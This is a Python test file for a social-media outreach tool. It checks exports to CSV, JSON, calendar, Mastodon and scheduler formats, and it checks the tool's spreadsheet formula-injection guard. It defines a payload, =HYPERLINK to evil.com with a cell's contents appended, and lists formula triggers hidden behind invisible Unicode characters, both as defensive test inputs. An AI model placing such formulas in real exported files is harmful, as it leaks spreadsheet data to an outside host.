"""Every format parsed back: csv (csv module), json, ics (icalendar), mastodon, profiles."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from test_export_support import NOW, make_campaign

from outreach.campaign import load_campaign
from outreach.errors import ProblemsFound, UsageError
from outreach.export import (
    COLUMNS,
    FORMATS,
    ScheduledPost,
    export_files,
    formula_trigger,
    plan_posts,
)
from outreach.render import Renderer

EVIL = '=HYPERLINK("https://evil.com/?"&A1,"Firma") %(url)s %(hashtag)s'
# A formula with no link, mention or hidden character: the translation checks pass it, and
# the spreadsheet guard is what keeps it out of a CSV cell.
FORMULA = "=SUMA(1;1) Firma: %(url)s %(hashtag)s"


def _plan(root: Path, channel: str = "x", **kwargs: object) -> list[ScheduledPost]:
    campaign = load_campaign(root)
    options: dict[str, object] = {"every": "1d", "now": NOW, **kwargs}
    return plan_posts(campaign, channel, "2026-12-01T09:00", **options)  # type: ignore[arg-type]


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.fixture
def posts(tmp_path: Path) -> list[ScheduledPost]:
    return _plan(make_campaign(tmp_path))


# -- csv and json ---------------------------------------------------------------------------


def test_csv_parses_back_with_line_breaks_and_quotes(posts: list[ScheduledPost]) -> None:
    [data] = export_files(posts, "csv", now=NOW)
    assert not data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    rows = _csv(data)
    assert rows[0] == list(COLUMNS)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(records) == len(posts) == 4
    for record, post in zip(records, posts, strict=True):
        assert record["text"] == post.text
        assert dt.datetime.fromisoformat(record["scheduled_at"]) == post.scheduled_at
        assert record["url"] == "https://example.org/love"
        assert int(record["length"]) <= int(record["limit"]) == 280
    share_es = records[3]
    assert share_es["text"] == (
        "El amor siempre gana.\nMira el corto: https://example.org/love #LoveWins"
    )
    assert share_es["scheduled_at"] == "2026-12-02T09:00:00+01:00"
    assert records[1]["text"].startswith("Firma la petición, «ya»")


def test_csv_bom_for_excel(posts: list[ScheduledPost]) -> None:
    [data] = export_files(posts, "csv", now=NOW, bom=True)
    assert data.startswith(b"\xef\xbb\xbf")
    assert _csv(data[3:])[0][0] == "message"


def test_json_parses_back(posts: list[ScheduledPost]) -> None:
    [data] = export_files(posts, "json", now=NOW)
    document = json.loads(data)
    assert [d["locale"] for d in document] == ["en", "es", "en", "es"]
    first = document[0]
    assert set(COLUMNS) <= set(first)
    assert first["scheduled_at"] == "2026-12-01T09:00:00-05:00"
    assert isinstance(first["length"], int) and first["limit"] == 280
    assert first["channel"] == "x" and first["message"] == "petition"


# -- ics ------------------------------------------------------------------------------------


def test_ics_parses_back_with_zones_language_and_categories(posts: list[ScheduledPost]) -> None:
    from icalendar import Calendar

    [data] = export_files(posts, "ics", now=NOW, calendar_name="Export Test · x")
    calendar = Calendar.from_ical(data)
    events = calendar.walk("VEVENT")
    assert len(events) == 4
    assert {tz.tz_name for tz in calendar.timezones} == {"America/New_York", "Europe/Madrid"}
    for event, post in zip(events, posts, strict=True):
        assert str(event["UID"]) == post.uid
        assert event.decoded("DTSTART") == post.scheduled_at
        assert event["DTSTART"].params["TZID"] == post.zone
        assert event.decoded("DTSTAMP") == NOW
        assert str(event["DESCRIPTION"]) == post.text
        assert event["DESCRIPTION"].params["LANGUAGE"] == post.language
        assert event["SUMMARY"].params["LANGUAGE"] == post.language
        assert str(event["URL"]) == "https://example.org/love"
        assert [str(c) for c in event["CATEGORIES"].cats] == ["x", post.locale]
    assert events[1].start == dt.datetime(2026, 12, 1, 9, 0, tzinfo=ZoneInfo("Europe/Madrid"))


def test_ics_uids_survive_a_new_schedule(tmp_path: Path) -> None:
    from icalendar import Calendar

    root = make_campaign(tmp_path)
    first = _plan(root)
    later = plan_posts(load_campaign(root), "x", "2027-02-01T18:00", "2h", now=NOW)
    uids = [
        [
            str(e["UID"])
            for e in Calendar.from_ical(export_files(p, "ics", now=NOW)[0]).walk("VEVENT")
        ]
        for p in (first, later)
    ]
    assert uids[0] == uids[1] and len(set(uids[0])) == 4


def test_ics_for_locales_without_zone_is_utc(tmp_path: Path) -> None:
    from icalendar import Calendar

    posts = _plan(make_campaign(tmp_path, zones={}))
    [data] = export_files(posts, "ics", now=NOW)
    assert b"DTSTART:20261201T090000Z" in data
    assert Calendar.from_ical(data).walk("VEVENT")[0].decoded(
        "DTSTART"
    ).utcoffset() == dt.timedelta(0)


# -- mastodon -------------------------------------------------------------------------------


def test_mastodon_bodies(tmp_path: Path) -> None:
    posts = _plan(make_campaign(tmp_path, locales=("en", "es", "pt_BR")), "mastodon")
    [data] = export_files(posts, "mastodon", now=NOW)
    bodies = json.loads(data)
    assert [b["language"] for b in bodies] == ["en", "es", "pt"] * 2
    assert bodies[1] == {
        "status": posts[1].text,
        "language": "es",
        "scheduled_at": "2026-12-01T09:00:00+01:00",
        "visibility": "public",
    }


def test_mastodon_rules(tmp_path: Path) -> None:
    root = make_campaign(
        tmp_path,
        posts={f"m{n:02d}": "Hi {{ url }} {{ hashtag }}" for n in range(13)},
        translations={},
    )
    with pytest.raises(UsageError, match="--channel mastodon"):
        export_files(_plan(root, "x"), "mastodon", now=NOW)
    crowded = _plan(root, "mastodon", every="30m")  # 26 statuses on 2026-12-01 (UTC)
    with pytest.raises(ProblemsFound, match="at most 25 scheduled statuses a day"):
        export_files(crowded, "mastodon", now=NOW)
    soon = plan_posts(
        load_campaign(root), "mastodon", "2026-11-01T12:05Z", messages=["m00"], now=NOW
    )
    with pytest.raises(ProblemsFound, match="more than 5 minutes ahead"):
        export_files(soon, "mastodon", now=NOW)


# -- spreadsheet safety ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "trigger"),
    [
        ("=1+1", "="),
        ("+1 if you agree", "+"),
        ("-50% today", "-"),
        ("@iocmedia, listen", "@"),
        ("\t=1", "\t"),
        ("\r=1", "\r"),
        ("  =1", "="),
        ("＝1+1", "＝"),
        ("Love #LoveWins", None),
        ("", None),
        ("#LoveWins first", None),
        # invisible or non-ASCII spaces before the trigger do not hide it
        ("\u00a0=1+1", "="),
        ("\u3000=1+1", "="),
        ("\u200b=1+1", "="),
        ("\ufeff=1+1", "="),
        ("\u2060\u00ad+1", "+"),
        ("\u202f\u2028-1", "-"),
        ("\n@someone", "@"),
        ("\x85=1", "="),
        ("\u3164=1", "="),
        ("\u200b\uff1d1", "\uff1d"),
        # a tab or CR after them is a trigger itself
        ("\u00a0\t=1", "\t"),
        (" \rHi", "\r"),
        ("\u200bLove #LoveWins", None),
        ("\ufeff", None),
    ],
)
def test_formula_triggers(cell: str, trigger: str | None) -> None:
    assert formula_trigger(cell) == trigger


def test_a_formula_after_invisible_characters_is_refused_and_shown(tmp_path: Path) -> None:
    hidden = "\u00a0\u3000=1+1 %(url)s %(hashtag)s"
    root = make_campaign(tmp_path, translations={"es": {"share": hidden, "petition": hidden}})
    posts = _plan(root, every="1d", stagger="10m", messages=["share"])
    with pytest.raises(ProblemsFound) as caught:
        export_files(posts, "csv", now=NOW)
    assert [str(p) for p in caught.value.problems] == [
        "share (es, x): the text starts with “=” after leading spaces or invisible characters "
        "(U+00A0, U+3000), which a spreadsheet would run as a formula; outreach does "
        "not alter posts: start it with a word or a letter instead"
    ]


def test_a_translation_with_a_hidden_character_is_refused_before_any_format(
    tmp_path: Path,
) -> None:
    hidden = "\u200b\u2060=1+1 %(url)s %(hashtag)s"
    root = make_campaign(tmp_path, translations={"es": {"share": hidden}})
    renderer = Renderer(load_campaign(root))
    posts = _plan(root, every="1d", stagger="10m", messages=["share"], renderer=renderer)
    assert posts and all(p.post.locale != "es" for p in posts)  # held: every other planned
    problems = renderer.held_back["es"].lines
    assert any("invisible: U+200B ZERO WIDTH SPACE is not in the source" in p for p in problems)


@pytest.mark.parametrize("fmt", ["csv", "buffer", "hootsuite", "sprout"])
def test_a_formula_bearing_translation_never_reaches_a_csv_cell(tmp_path: Path, fmt: str) -> None:
    root = make_campaign(tmp_path, translations={"es": {"share": FORMULA}})
    posts = _plan(root, every="1d", stagger="10m")
    with pytest.raises(ProblemsFound) as caught:
        export_files(posts, fmt, now=NOW)
    [problem] = [str(p) for p in caught.value.problems]
    assert problem.startswith("share (es, x): the text starts with “=”")
    assert "outreach does not alter posts" in problem


def test_a_formula_with_a_hijacked_link_is_refused_before_any_format(tmp_path: Path) -> None:
    root = make_campaign(tmp_path, translations={"es": {"share": EVIL}})
    renderer = Renderer(load_campaign(root))
    posts = _plan(root, every="1d", stagger="10m", renderer=renderer)
    assert all((p.post.message, p.post.locale) != ("share", "es") for p in posts)
    problems = renderer.held_back["es"].lines
    assert any("urls: link https://evil.com/" in p and "link hijack" in p for p in problems)


def test_a_leading_mention_is_refused_not_altered(tmp_path: Path) -> None:
    root = make_campaign(
        tmp_path,
        posts={"share": "@iocmedia, watch: {{ url }} {{ hashtag }}"},
        translations={"es": {"share": "@iocmedia, mira: %(url)s %(hashtag)s"}},
    )
    posts = _plan(root)
    with pytest.raises(ProblemsFound, match="put a word before the mention"):
        export_files(posts, "csv", now=NOW)
    # Formats that no spreadsheet opens keep the post exactly as written.
    bodies = json.loads(export_files(_plan(root, "mastodon"), "mastodon", now=NOW)[0])
    assert bodies[1]["status"].startswith("@iocmedia, mira")
    assert json.loads(export_files(posts, "json", now=NOW)[0])[1]["text"].startswith("@iocmedia")


# -- scheduler profiles ---------------------------------------------------------------------


def test_buffer_layout(posts: list[ScheduledPost]) -> None:
    [data] = export_files(posts, "buffer", now=NOW, tz="Europe/Madrid")
    rows = _csv(data)
    assert rows[0] == ["Text", "Image URL", "Tags", "Posting Time"]
    assert rows[1] == [posts[0].text, "", "", "2026-12-01 15:00"]  # 09:00 New York
    assert rows[2][3] == "2026-12-01 09:00"
    assert rows[4][0] == posts[3].text  # the line break survives


def test_buffer_splits_at_max_rows(posts: list[ScheduledPost], tmp_path: Path) -> None:
    files = export_files(posts, "buffer", now=NOW, max_rows=3)
    assert [len(_csv(f)) - 1 for f in files] == [3, 1]
    assert all(_csv(f)[0][0] == "Text" for f in files)
    with pytest.raises(UsageError, match="between 1 and 100"):
        export_files(posts, "buffer", now=NOW, max_rows=101)


def test_hootsuite_layout(posts: list[ScheduledPost]) -> None:
    [data] = export_files(posts, "hootsuite", now=NOW, tz="America/New_York")
    rows = _csv(data)
    assert len(rows) == 4, "no header row"
    assert rows[0] == ["12/01/2026 09:00", posts[0].text, ""]
    assert rows[1][0] == "12/01/2026 03:00"
    [day_first] = export_files(posts, "hootsuite", now=NOW, tz="Europe/Madrid", day_first=True)
    assert _csv(day_first)[2][0] == "02/12/2026 15:00"


def test_sprout_layout(posts: list[ScheduledPost]) -> None:
    [data] = export_files(posts, "sprout", now=NOW, tz="UTC")
    rows = _csv(data)
    assert rows[0] == ["date", "time_24hr", "message_text"]
    assert rows[1] == ["12/01/2026", "14:00", posts[0].text]
    assert _csv(export_files(posts, "sprout", now=NOW, day_first=True)[0])[3][:2] == [
        "02/12/2026",
        "14:00",
    ]


def test_hootsuite_rules(tmp_path: Path) -> None:
    root = make_campaign(tmp_path, zones={})  # en and es share UTC: same slot
    clash = _plan(root)
    with pytest.raises(ProblemsFound, match="one post per time slot"):
        export_files(clash, "hootsuite", now=NOW)
    off_grid = _plan(root, stagger="3m")
    with pytest.raises(ProblemsFound, match="5-minute grid"):
        export_files(off_grid, "hootsuite", now=NOW)
    soon = plan_posts(load_campaign(root), "x", "2026-11-01T12:05", stagger="5m", now=NOW)
    with pytest.raises(ProblemsFound, match="at least 10 minutes ahead"):
        export_files(soon, "hootsuite", now=NOW)
    seconds = _plan(root, stagger="5m30s")
    with pytest.raises(ProblemsFound, match="to the minute"):
        export_files(seconds, "hootsuite", now=NOW)
    assert len(export_files(_plan(root, stagger="5m"), "hootsuite", now=NOW)) == 1


def test_same_slot_advice_names_each_profiles_own_gap(tmp_path: Path) -> None:
    root = make_campaign(tmp_path, zones={})  # en and es share UTC: same slot
    for fmt, stagger in (("hootsuite", "5m"), ("sprout", "10m")):
        with pytest.raises(ProblemsFound) as caught:
            export_files(_plan(root), fmt, now=NOW)
        problems = [str(p) for p in caught.value.problems]
        assert problems and all(f"--stagger {stagger} to shift" in p for p in problems), problems
        assert export_files(_plan(root, stagger=stagger), fmt, now=NOW)


def test_sprout_needs_ten_minutes_between_posts(tmp_path: Path) -> None:
    root = make_campaign(tmp_path, zones={})
    with pytest.raises(ProblemsFound, match="at least 10 minutes apart"):
        export_files(_plan(root, stagger="5m"), "sprout", now=NOW)
    assert export_files(_plan(root, stagger="10m"), "sprout", now=NOW)


def test_a_wall_time_that_happens_twice_is_refused(tmp_path: Path) -> None:
    root = make_campaign(tmp_path, zones={})
    posts = plan_posts(
        load_campaign(root), "x", "2026-11-08T06:30Z", messages=["share"], stagger="10m", now=NOW
    )
    export_files(posts, "sprout", now=NOW, tz="America/New_York")  # 01:30 EST: fine
    repeated = plan_posts(
        load_campaign(root),
        "x",
        "2026-11-01T05:30Z",
        messages=["share"],
        stagger="10m",
        now=NOW - dt.timedelta(days=1),
    )
    with pytest.raises(ProblemsFound, match="happens twice"):
        export_files(repeated, "sprout", now=NOW - dt.timedelta(days=1), tz="America/New_York")


def test_hootsuite_export_of_400_posts_splits_into_two_valid_files(tmp_path: Path) -> None:
    messages = {f"m{n:03d}": f"Post {n}: {{{{ url }}}} {{{{ hashtag }}}}" for n in range(100)}
    root = make_campaign(
        tmp_path, locales=("en", "es", "fr", "pt"), zones={}, posts=messages, translations={}
    )
    posts = plan_posts(
        load_campaign(root), "x", "2026-12-01T09:00", "20m", "UTC", stagger="5m", now=NOW
    )
    assert len(posts) == 400
    files = export_files(posts, "hootsuite", now=NOW, tz="UTC")
    assert len(files) == 2
    parsed = [_csv(f) for f in files]
    assert [len(rows) for rows in parsed] == [350, 50]
    seen: set[dt.datetime] = set()
    for rows in parsed:
        for when, text, link in rows:
            at = dt.datetime.strptime(when, "%m/%d/%Y %H:%M")
            assert at.minute % 5 == 0 and at not in seen
            seen.add(at)
            assert text.startswith("Post ") and text.endswith("#LoveWins") and link == ""
    assert parsed[0][0][1].startswith("Post 0:") and parsed[1][-1][1].startswith("Post 99:")


def test_option_mismatches_are_usage_errors(posts: list[ScheduledPost]) -> None:
    with pytest.raises(UsageError, match="--bom"):
        export_files(posts, "sprout", now=NOW, bom=True)
    with pytest.raises(UsageError, match="--day-first"):
        export_files(posts, "buffer", now=NOW, day_first=True)
    with pytest.raises(UsageError, match="--max-rows"):
        export_files(posts, "csv", now=NOW, max_rows=5)
    with pytest.raises(UsageError, match="unknown format"):
        export_files(posts, "xlsx", now=NOW)
    assert "xlsx" not in FORMATS
